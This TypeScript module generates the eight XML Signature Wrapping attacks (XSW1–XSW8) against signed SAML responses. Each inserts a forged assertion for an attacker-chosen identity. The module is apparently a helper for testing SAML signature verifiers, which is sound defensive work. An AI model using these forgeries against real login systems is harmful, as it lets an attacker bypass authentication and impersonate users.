/**
 * The eight classic XML Signature Wrapping placements (XSW1..XSW8, as in SAML Raider / Somorovsky et
 * al.), applied to a validly signed response: a forged assertion for `evilNameId` is placed where a
 * careless verifier would read it while the genuine signed content is hidden elsewhere.
 */
import { DOMParser, XMLSerializer, type Document, type Element } from '@xmldom/xmldom';

const DS = 'http://www.w3.org/2000/09/xmldsig#';

function child(parent: Element, localName: string): Element {
  for (let n = parent.firstChild; n; n = n.nextSibling) {
    if (n.nodeType === 1 && (n as Element).localName === localName) return n as Element;
  }
  throw new Error(`no ${localName}`);
}

function setNameId(assertion: Element, nameId: string): void {
  const nameIdElement = child(child(assertion, 'Subject'), 'NameID');
  while (nameIdElement.firstChild) nameIdElement.removeChild(nameIdElement.firstChild);
  nameIdElement.appendChild(assertion.ownerDocument!.createTextNode(nameId));
}

function removeSignature(element: Element): void {
  element.removeChild(child(element, 'Signature'));
}

function dsObject(doc: Document, content: Element): Element {
  const object = doc.createElementNS(DS, 'ds:Object');
  object.appendChild(content);
  return object;
}

type Attack = (doc: Document, response: Element, assertion: Element, evilNameId: string) => void;

const attacks: Record<string, Attack> = {
  // Forged response at the root; the original response (signed content) hidden inside its signature.
  XSW1(doc, response, assertion, evil) {
    const original = response.cloneNode(true) as Element;
    removeSignature(original);
    const signature = child(response, 'Signature');
    setNameId(assertion, evil);
    response.setAttribute('ID', '_evil_response');
    signature.appendChild(dsObject(doc, original));
  },
  // Same, with the original response as a sibling before the (now detached) signature.
  XSW2(doc, response, assertion, evil) {
    const original = response.cloneNode(true) as Element;
    removeSignature(original);
    const signature = child(response, 'Signature');
    setNameId(assertion, evil);
    response.setAttribute('ID', '_evil_response');
    response.insertBefore(original, signature);
  },
  // A forged assertion inserted before the signed one.
  XSW3(_doc, response, assertion, evil) {
    const forged = assertion.cloneNode(true) as Element;
    removeSignature(forged);
    forged.setAttribute('ID', '_evil_assertion');
    setNameId(forged, evil);
    response.insertBefore(forged, assertion);
  },
  // The signed assertion moved inside a forged one.
  XSW4(_doc, response, assertion, evil) {
    const forged = assertion.cloneNode(true) as Element;
    removeSignature(forged);
    forged.setAttribute('ID', '_evil_assertion');
    setNameId(forged, evil);
    response.replaceChild(forged, assertion);
    forged.appendChild(assertion);
  },
  // A forged assertion carrying the copied signature; the original appended at the end, unsigned.
  XSW5(_doc, response, assertion, evil) {
    const original = assertion.cloneNode(true) as Element;
    removeSignature(original);
    setNameId(assertion, evil);
    assertion.setAttribute('ID', '_evil_assertion');
    response.appendChild(original);
  },
  // A forged assertion carrying the signature; the original inside that signature.
  XSW6(doc, _response, assertion, evil) {
    const original = assertion.cloneNode(true) as Element;
    removeSignature(original);
    setNameId(assertion, evil);
    assertion.setAttribute('ID', '_evil_assertion');
    child(assertion, 'Signature').appendChild(dsObject(doc, original));
  },
  // The signed assertion hidden in an Extensions element; a forged one where it was.
  XSW7(doc, response, assertion, evil) {
    const forged = assertion.cloneNode(true) as Element;
    removeSignature(forged);
    setNameId(forged, evil);
    const extensions = doc.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
    response.replaceChild(forged, assertion);
    extensions.appendChild(assertion);
    response.insertBefore(extensions, forged);
  },
  // A forged assertion with the signature; the original, unsigned, inside ds:Object of that signature.
  XSW8(doc, _response, assertion, evil) {
    const original = assertion.cloneNode(true) as Element;
    removeSignature(original);
    setNameId(assertion, evil);
    child(assertion, 'Signature').appendChild(dsObject(doc, original));
  },
};

/** The names of the attacks. */
export const XSW_ATTACKS = Object.keys(attacks);

/** Applies attack `name` to a signed response XML. */
export function wrapSignature(name: string, signedXml: string, evilNameId: string): string {
  const attack = attacks[name];
  if (!attack) throw new Error(`unknown attack ${name}`);
  const doc = new DOMParser().parseFromString(signedXml, 'text/xml');
  const response = doc.documentElement as Element;
  attack(doc, response, child(response, 'Assertion'), evilNameId);
  return new XMLSerializer().serializeToString(doc);
}
